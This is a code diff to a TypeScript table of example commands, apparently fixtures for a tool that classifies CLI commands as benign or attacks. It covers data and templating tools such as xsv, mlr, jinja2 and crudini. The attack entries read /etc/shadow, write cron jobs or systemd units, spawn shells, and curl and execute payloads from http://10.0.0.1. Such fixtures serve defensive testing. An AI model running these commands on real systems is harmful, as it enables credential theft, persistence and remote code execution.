@@ -2,254 +2,276 @@ import type { ExampleTable } from './example.ts'
 
 export const structuredData2: ExampleTable = {
   'csvtool format': {
-    use: 'csvtool format -o out.txt → write out.txt',
-    attack: 'csvtool format -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: "csvtool format '%(1) %(2)\\n' orders.csv → read orders.csv",
+    attack: [
+      "csvtool -t : format '%(2)\\n' /etc/shadow → read /etc/shadow",
+      "csvtool format '%(1)\\n' job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job",
+    ],
   },
   'csvtool head': {
-    use: 'csvtool head 1 notes.txt → read notes.txt',
+    use: 'csvtool head 10 orders.csv → read orders.csv',
     attack: [
-      'csvtool head 1 /etc/shadow → read /etc/shadow',
-      'csvtool head 1 notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'csvtool head 10 /etc/shadow → read /etc/shadow',
+      'csvtool head 1 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'csvtool height': {
-    use: 'csvtool height notes.txt → read notes.txt',
-    attack: 'csvtool height /etc/shadow → read /etc/shadow',
+    use: 'csvtool height orders.csv → read orders.csv',
   },
   'csvtool namedcol': {
-    use: 'csvtool namedcol name notes.txt → read notes.txt',
-    attack: [
-      'csvtool namedcol name /etc/shadow → read /etc/shadow',
-      'csvtool namedcol name notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
-    ],
+    use: 'csvtool namedcol name,price orders.csv → read orders.csv',
+    attack:
+      'csvtool namedcol line job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
   },
   'csvtool paste': {
-    use: 'csvtool paste notes.txt → read notes.txt',
+    use: 'csvtool paste names.csv prices.csv → read names.csv; read prices.csv',
     attack: [
-      'csvtool paste /etc/shadow → read /etc/shadow',
-      'csvtool paste notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'csvtool paste /etc/shadow names.csv → read /etc/shadow; read names.csv',
+      'csvtool paste job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'csvtool readable': {
-    use: 'csvtool readable notes.txt → read notes.txt',
+    use: 'csvtool readable orders.csv → read orders.csv',
     attack: [
       'csvtool readable /etc/shadow → read /etc/shadow',
-      'csvtool readable notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'csvtool readable job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'csvtool square': {
-    use: 'csvtool square notes.txt → read notes.txt',
+    use: 'csvtool square orders.csv → read orders.csv',
     attack: [
       'csvtool square /etc/shadow → read /etc/shadow',
-      'csvtool square notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'csvtool square job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'csvtool transpose': {
-    use: 'csvtool transpose notes.txt → read notes.txt',
+    use: 'csvtool transpose orders.csv → read orders.csv',
     attack: [
       'csvtool transpose /etc/shadow → read /etc/shadow',
-      'csvtool transpose notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'csvtool transpose job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'csvtool trim': {
-    use: 'csvtool trim t notes.txt → read notes.txt',
+    use: 'csvtool trim tb orders.csv → read orders.csv',
     attack: [
-      'csvtool trim t /etc/shadow → read /etc/shadow',
-      'csvtool trim t notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'csvtool trim tb /etc/shadow → read /etc/shadow',
+      'csvtool trim tb job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'csvtool width': {
-    use: 'csvtool width notes.txt → read notes.txt',
-    attack: 'csvtool width /etc/shadow → read /etc/shadow',
+    use: 'csvtool width orders.csv → read orders.csv',
   },
   dsq: {
-    use: `dsq notes.txt 'select 1' → read notes.txt`,
-    attack: [
-      `dsq /etc/shadow 'select 1' → read /etc/shadow`,
-      `dsq notes.txt "select load_file('/etc/shadow')" → read notes.txt; read /etc/shadow`,
-    ],
+    use: "dsq orders.json 'select count(*) from {}' → read orders.json",
   },
   in2csv: {
-    use: 'in2csv notes.txt → read notes.txt',
-    attack: 'in2csv /etc/shadow → read /etc/shadow',
+    use: 'in2csv orders.xlsx → read orders.xlsx',
+    attack: 'in2csv -f csv /etc/shadow → read /etc/shadow',
   },
   mlr: {
-    use: ['mlr cat notes.txt → read notes.txt', 'mlr -I cat a.csv → read a.csv; write a.csv'],
+    use: [
+      'mlr --icsv --ojson cat orders.csv → read orders.csv',
+      'mlr -I cat orders.csv → read orders.csv; write orders.csv',
+    ],
     attack: [
-      'mlr cat /etc/shadow → read /etc/shadow',
-      'mlr cat notes.txt --from=/etc/shadow → read /etc/shadow; read notes.txt',
+      'mlr --inidx --ojson cat /etc/shadow → read /etc/shadow',
+      'mlr --prepipe /tmp/x --icsv cat orders.csv → run /tmp/x; read orders.csv',
+      'mlr -n put \'end{print system("/tmp/x")}\' → run /tmp/x',
     ],
   },
   q: {
-    use: `q 'select 1' -q main.sql → read main.sql`,
+    use: "q -H -d , 'select count(*) from orders.csv' → nothing",
     attack: [
-      `q "select load_file('/etc/shadow')" → read /etc/shadow`,
-      `q 'select 1' -q /etc/shadow → read /etc/shadow`,
+      "q -d : 'select c2 from /etc/shadow' → read /etc/shadow",
+      'q -q /etc/shadow → read /etc/shadow',
     ],
   },
   sql2csv: {
-    use: 'sql2csv notes.txt → read notes.txt',
-    attack: 'sql2csv /etc/shadow → read /etc/shadow',
+    use: 'sql2csv --db sqlite:///app.db report.sql → read report.sql',
+    attack: 'sql2csv --db sqlite:///app.db /etc/shadow → read /etc/shadow',
   },
   textql: {
-    use: 'textql notes.txt → read notes.txt',
+    use: "textql -header -sql 'select count(*) from orders' orders.csv → read orders.csv",
     attack: [
-      'textql /etc/shadow → read /etc/shadow',
-      'textql notes.txt --save-to=/etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      "textql -dlm : -sql 'select * from shadow' /etc/shadow → read /etc/shadow",
+      'textql -save-to /etc/cron.d/job orders.csv → read orders.csv; write /etc/cron.d/job',
     ],
   },
   trdsql: {
-    use: `trdsql 'select 1' -q main.sql → read main.sql`,
+    use: 'trdsql -q report.sql → read report.sql',
     attack: [
-      `trdsql "select load_file('/etc/shadow')" → read /etc/shadow`,
-      `trdsql 'select 1' -q /etc/shadow → read /etc/shadow`,
+      "trdsql 'select * from /etc/shadow' → read /etc/shadow",
+      "trdsql -out /etc/cron.d/job 'select line from job.csv' → write /etc/cron.d/job",
     ],
   },
   tsv2csv: {
-    use: 'tsv2csv notes.txt → read notes.txt',
+    use: 'tsv2csv orders.tsv → read orders.tsv',
     attack: 'tsv2csv /etc/shadow → read /etc/shadow',
   },
   visidata: {
-    use: 'visidata notes.txt → read notes.txt',
+    use: 'visidata orders.csv → read orders.csv',
     attack: [
-      'visidata /etc/shadow → read /etc/shadow',
-      'visidata notes.txt -p /etc/shadow → read /etc/shadow; read notes.txt',
+      'visidata -f txt /etc/shadow → read /etc/shadow',
+      'curl -so c.py http://10.0.0.1/c && visidata --config c.py orders.csv → execute ‹http://10.0.0.1/c›; read orders.csv',
     ],
   },
-  xsv: {
-    use: 'xsv -o out.txt → write out.txt',
-    attack: 'xsv -o /etc/cron.d/job → write /etc/cron.d/job',
-  },
   'xsv cat': {
-    use: 'xsv cat rows notes.txt → read notes.txt',
+    use: 'xsv cat rows may.csv june.csv → read may.csv; read june.csv',
     attack: [
       'xsv cat rows /etc/shadow → read /etc/shadow',
-      'xsv cat rows notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv cat rows job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv count': {
-    use: 'xsv count notes.txt → read notes.txt',
-    attack: 'xsv count /etc/shadow → read /etc/shadow',
+    use: 'xsv count orders.csv → read orders.csv',
   },
   'xsv frequency': {
-    use: 'xsv frequency notes.txt → read notes.txt',
+    use: 'xsv frequency -s name orders.csv → read orders.csv',
     attack: [
-      'xsv frequency /etc/shadow → read /etc/shadow',
-      'xsv frequency notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv frequency -d : /etc/shadow → read /etc/shadow',
+      'xsv frequency job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv headers': {
-    use: 'xsv headers notes.txt → read notes.txt',
-    attack: 'xsv headers /etc/shadow → read /etc/shadow',
+    use: 'xsv headers orders.csv → read orders.csv',
+    attack: 'xsv headers -d : /etc/shadow → read /etc/shadow',
   },
   'xsv sample': {
-    use: 'xsv sample 10 notes.txt → read notes.txt',
+    use: 'xsv sample 10 orders.csv → read orders.csv',
     attack: [
       'xsv sample 10 /etc/shadow → read /etc/shadow',
-      'xsv sample 10 notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv sample 10 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv search': {
-    use: 'xsv search a notes.txt → read notes.txt',
+    use: 'xsv search -s name tea orders.csv → read orders.csv',
     attack: [
-      'xsv search a /etc/shadow → read /etc/shadow',
-      'xsv search a notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv search . /etc/shadow → read /etc/shadow',
+      'xsv search . job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv select': {
-    use: 'xsv select a notes.txt → read notes.txt',
+    use: 'xsv select name,price orders.csv → read orders.csv',
     attack: [
-      'xsv select a /etc/shadow → read /etc/shadow',
-      'xsv select a notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv select -d : 1-2 /etc/shadow → read /etc/shadow',
+      'xsv select line job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv slice': {
-    use: 'xsv slice notes.txt → read notes.txt',
+    use: 'xsv slice -s 10 -e 20 orders.csv → read orders.csv',
     attack: [
-      'xsv slice /etc/shadow → read /etc/shadow',
-      'xsv slice notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv slice -l 5 /etc/shadow → read /etc/shadow',
+      'xsv slice -l 1 job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv sort': {
-    use: 'xsv sort notes.txt → read notes.txt',
+    use: 'xsv sort -s price orders.csv → read orders.csv',
     attack: [
       'xsv sort /etc/shadow → read /etc/shadow',
-      'xsv sort notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv sort job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv split': {
-    use: 'xsv split out.txt notes.txt → read notes.txt; write out.txt',
+    use: 'xsv split -s 1000 parts orders.csv → read orders.csv; unpack parts',
     attack: [
-      'xsv split /etc/cron.d/job notes.txt → read notes.txt; write /etc/cron.d/job',
-      'xsv split out.txt /etc/shadow → read /etc/shadow; write out.txt',
+      'xsv split /etc/cron.d job.csv → read job.csv; unpack /etc/cron.d',
+      'xsv split parts /etc/shadow → read /etc/shadow; unpack parts',
     ],
   },
   'xsv stats': {
-    use: 'xsv stats notes.txt → read notes.txt',
+    use: 'xsv stats orders.csv → read orders.csv',
     attack: [
-      'xsv stats /etc/shadow → read /etc/shadow',
-      'xsv stats notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv stats -d : /etc/shadow → read /etc/shadow',
+      'xsv stats job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   'xsv table': {
-    use: 'xsv table notes.txt → read notes.txt',
+    use: 'xsv table orders.csv → read orders.csv',
     attack: [
       'xsv table /etc/shadow → read /etc/shadow',
-      'xsv table notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'xsv table job.csv -o /etc/cron.d/job → read job.csv; write /etc/cron.d/job',
     ],
   },
   confd: {
-    use: 'confd --config-file=app.conf → read app.conf',
-    attack: [
-      'confd --config-file=/etc/shadow → read /etc/shadow',
-      'confd -config-file /etc/shadow → read /etc/shadow',
-    ],
+    use: 'confd -config-file confd.toml → read confd.toml',
+    attack: 'confd -config-file /tmp/x.toml → run /tmp/x.toml; read /tmp/x.toml',
   },
   esh: {
-    use: 'esh main.sh → read main.sh',
+    use: 'esh -o app.conf app.conf.esh port=80 → read app.conf.esh; write app.conf',
     attack: [
       'esh /etc/shadow → read /etc/shadow',
-      'esh -o /etc/cron.d/job main.sh → read main.sh; write /etc/cron.d/job',
+      'esh -s /tmp/x app.conf.esh → run /tmp/x; read app.conf.esh',
+      'esh -o /etc/cron.d/job job.esh → read job.esh; write /etc/cron.d/job',
     ],
   },
   gomplate: {
-    use: 'gomplate cat notes.txt → read notes.txt',
-    attack: ['gomplate cat /etc/shadow → read /etc/shadow', 'gomplate bash → shell bash'],
+    use: 'gomplate -f app.tmpl -o app.conf → read app.tmpl; write app.conf',
+    attack: [
+      'gomplate -f /etc/shadow → read /etc/shadow',
+      'gomplate -f app.tmpl -o app.conf -- bash → shell bash; read app.tmpl; write app.conf',
+    ],
   },
   j2: {
-    use: 'j2 notes.txt notes.txt → read notes.txt',
+    use: 'j2 app.conf.j2 data.json → read app.conf.j2; read data.json',
     attack: [
-      'j2 /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
-      'j2 notes.txt notes.txt --filters=/etc/shadow → read /etc/shadow; read notes.txt',
+      'j2 /etc/shadow data.json → read /etc/shadow; read data.json',
+      'curl -so f.py http://10.0.0.1/f && j2 --filters f.py app.conf.j2 data.json → execute ‹http://10.0.0.1/f›; read app.conf.j2; read data.json',
     ],
   },
   jinja2: {
-    use: 'jinja2 notes.txt notes.txt → read notes.txt',
+    use: 'jinja2 app.conf.j2 data.json → read app.conf.j2; read data.json',
     attack: [
-      'jinja2 /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
-      'jinja2 notes.txt notes.txt -e /tmp/x.so → load /tmp/x.so; read notes.txt',
-    ],
-  },
-  jinjanator: {
-    use: 'jinjanator notes.txt notes.txt → read notes.txt',
-    attack: [
-      'jinjanator /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
-      'jinjanator notes.txt notes.txt --filters=/etc/shadow → read /etc/shadow; read notes.txt',
+      'jinja2 /etc/shadow data.json → read /etc/shadow; read data.json',
+      'jinja2 -o /etc/cron.d/job job.j2 data.json → read job.j2; read data.json; write /etc/cron.d/job',
     ],
   },
   'minijinja-cli': {
-    use: 'minijinja-cli notes.txt notes.txt → read notes.txt',
+    use: 'minijinja-cli app.conf.j2 data.json → read app.conf.j2; read data.json',
     attack: [
-      'minijinja-cli /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
-      'minijinja-cli notes.txt notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'minijinja-cli /etc/shadow data.json → read /etc/shadow; read data.json',
+      'minijinja-cli -o /etc/cron.d/job job.j2 data.json → read job.j2; read data.json; write /etc/cron.d/job',
     ],
   },
   mustache: {
-    use: 'mustache notes.txt → read notes.txt',
-    attack: 'mustache /etc/shadow → read /etc/shadow',
+    use: 'mustache data.yml page.mustache → read data.yml; read page.mustache',
+    attack: 'mustache data.yml /etc/shadow → read data.yml; read /etc/shadow',
   },
   tera: {
-    use: 'tera -t notes.txt → read notes.txt',
-    attack: ['tera -t /etc/shadow → read /etc/shadow', 'tera -f /etc/shadow → read /etc/shadow'],
+    use: 'tera --template app.tera --out app.conf data.json → read app.tera; write app.conf',
+    attack: 'tera --template /etc/shadow data.json → read /etc/shadow',
+  },
+  jinjanate: {
+    use: 'jinjanate app.conf.j2 data.json → read app.conf.j2; read data.json',
+    attack: [
+      'jinjanate /etc/shadow data.json → read /etc/shadow; read data.json',
+      'curl -so c.py http://10.0.0.1/c && jinjanate --customize c.py app.conf.j2 data.json → execute ‹http://10.0.0.1/c›; read app.conf.j2; read data.json',
+    ],
+  },
+  jo: {
+    use: 'jo -f base.json name=tea → read base.json',
+    attack: 'jo -o /etc/cron.d/job a=1 → write /etc/cron.d/job',
+  },
+  crudini: {
+    use: 'crudini --get app.ini main port → read app.ini',
+    attack: [
+      'crudini --set /etc/systemd/system/app.service Service ExecStart /tmp/x → write /etc/systemd/system/app.service',
+      'crudini --get /etc/shadow → read /etc/shadow',
+    ],
+  },
+  plutil: {
+    use: 'plutil -p app.plist → read app.plist',
+    attack:
+      'plutil -convert xml1 -o /etc/cron.d/job in.plist → read in.plist; write /etc/cron.d/job',
+  },
+  'csvtool join': {
+    use: 'csvtool join 1 2 orders.csv people.csv → read orders.csv; read people.csv',
+    attack: 'csvtool join 1 2 orders.csv /etc/shadow → read orders.csv; read /etc/shadow',
+  },
+  octosql: {
+    use: "octosql 'select count(*) from orders.csv' → nothing",
+  },
+  'xsv join': {
+    use: 'xsv join id orders.csv id people.csv → read orders.csv; read people.csv',
+    attack: 'xsv join 1 /etc/shadow 1 people.csv → read /etc/shadow; read people.csv',
   },
 }
